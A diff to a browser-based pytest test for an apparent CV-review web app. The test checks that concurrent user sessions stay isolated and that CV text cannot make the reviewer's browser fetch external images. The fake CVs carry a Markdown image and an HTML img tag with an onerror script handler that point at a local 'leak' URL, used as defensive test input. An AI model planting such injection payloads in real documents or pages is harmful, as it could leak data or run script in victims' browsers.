@@ -25,9 +25,14 @@ CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-backg
                  "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic"]
 
 
+# Markdown and HTML in a CV must stay text: rendered, they would make the reviewer's browser call out.
+PIXEL = "http://127.0.0.1:9/pixel.png"
+HOSTILE = f"![x]({PIXEL}?leak=shortlist) <img src='{PIXEL}?html=1' onerror='alert(1)'>"
+
+
 def _cv(name: str) -> bytes:
-    return (f"{name}\nPostdoctoral Researcher\n\nPUBLICATIONS\n"
-            f'1. {name}. "A paper only this reviewer uploaded". In Proc. ICML, 2023.\n').encode()
+    return (f"{name}\nPostdoctoral Researcher\n{HOSTILE}\n\nPUBLICATIONS\n"
+            f'1. {name}. "A paper only this reviewer uploaded {HOSTILE}". In Proc. ICML, 2023.\n').encode()
 
 
 @pytest.fixture
@@ -74,16 +79,19 @@ def _settle(page: object) -> None:
     page.wait_for_selector("[data-testid='stApp'][data-test-script-state='notRunning']", timeout=30_000)
 
 
-def _upload(page: object, url: str, filename: str, data: bytes) -> None:
+def _choose_file(page: object, url: str, filename: str, data: bytes) -> None:
     from playwright.sync_api import expect
 
     page.goto(f"{url}/load")
     _settle(page)
     page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
         files=[{"name": filename, "mimeType": "text/plain", "buffer": data}])
-    button = page.get_by_role("button", name="Read 1 uploaded files")
-    expect(button).to_be_enabled(timeout=20_000)
-    button.click()
+    expect(page.get_by_role("button", name="Read 1 uploaded files")).to_be_enabled(timeout=20_000)
+
+
+def _wait_until_read(page: object, filename: str) -> None:
+    from playwright.sync_api import expect
+
     expect(page.get_by_test_id("stDataFrame")).to_contain_text(filename, timeout=30_000)
     _settle(page)
 
@@ -100,16 +108,17 @@ def _status_table(page: object, expected: str) -> str:
     return table.first.text_content() or ""
 
 
-def _revisit_load(page: object) -> None:
-    """Rerun this session's script on the Load page (in-app navigation keeps the session)."""
-    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Compare").click()
-    _settle(page)
-    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Load").click()
+def _visit(page: object, title: str) -> None:
+    """Open another page of the app by its sidebar link (in-app navigation keeps the session)."""
+    page.get_by_test_id("stSidebarNav").get_by_role("link", name=title).click()
     _settle(page)
 
 
 def test_two_sessions_never_see_each_others_uploads(server: str) -> None:
-    """Alice's and Bob's uploads stay in their own sessions; a third, fresh session sees neither."""
+    """Alice and Bob read uploads at the same time; each sees only their own, a fresh session neither.
+
+    Their CVs also carry Markdown/HTML images: no page may make the browser request them.
+    """
     from playwright.sync_api import sync_playwright
 
     chromium = shutil.which("chromium")
@@ -117,17 +126,33 @@ def test_two_sessions_never_see_each_others_uploads(server: str) -> None:
     with sync_playwright() as pw:
         browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
         try:
+            outbound: list[str] = []
             alice = browser.new_context().new_page()
             bob = browser.new_context().new_page()
-            _upload(alice, server, "zeldovich-alpha.txt", _cv("Alia Zeldovich"))
-            _upload(bob, server, "yamamoto-beta.txt", _cv("Bo Yamamoto"))
+            for page in (alice, bob):
+                page.on("request", lambda request: outbound.append(request.url)
+                        if not request.url.startswith(server) else None)
+            _choose_file(alice, server, "zeldovich-alpha.txt", _cv("Alia Zeldovich"))
+            _choose_file(bob, server, "yamamoto-beta.txt", _cv("Bo Yamamoto"))
+            # Both sessions ingest at once on the server.
+            alice.get_by_role("button", name="Read 1 uploaded files").click()
+            bob.get_by_role("button", name="Read 1 uploaded files").click()
+            _wait_until_read(alice, "zeldovich-alpha.txt")
+            _wait_until_read(bob, "yamamoto-beta.txt")
 
-            _revisit_load(alice)
+            for title in ("Ranking", "Candidate", "Compare", "Load"):
+                _visit(alice, title)
+                assert "Yamamoto" not in alice.content(), f"Bob's candidate on Alice's {title} page"
+            _visit(alice, "Candidate")
+            assert "Zeldovich" in alice.content()  # the page does show her own candidate
+            assert "pixel.png" in alice.content()  # ... and the hostile markup, as text
+            _visit(alice, "Load")
             seen_by_alice = _status_table(alice, "zeldovich-alpha")
             assert "yamamoto" not in seen_by_alice
             assert "Yamamoto" not in alice.content()
 
-            _revisit_load(bob)
+            _visit(bob, "Candidate")
+            _visit(bob, "Load")
             seen_by_bob = _status_table(bob, "yamamoto-beta")
             assert "zeldovich" not in seen_by_bob
             assert "Zeldovich" not in bob.content()
@@ -138,5 +163,6 @@ def test_two_sessions_never_see_each_others_uploads(server: str) -> None:
             seen_by_carol = _status_table(carol, "publicperson")
             assert "zeldovich" not in seen_by_carol
             assert "yamamoto" not in seen_by_carol
+            assert not [u for u in outbound if "pixel.png" in u], outbound
         finally:
             browser.close()
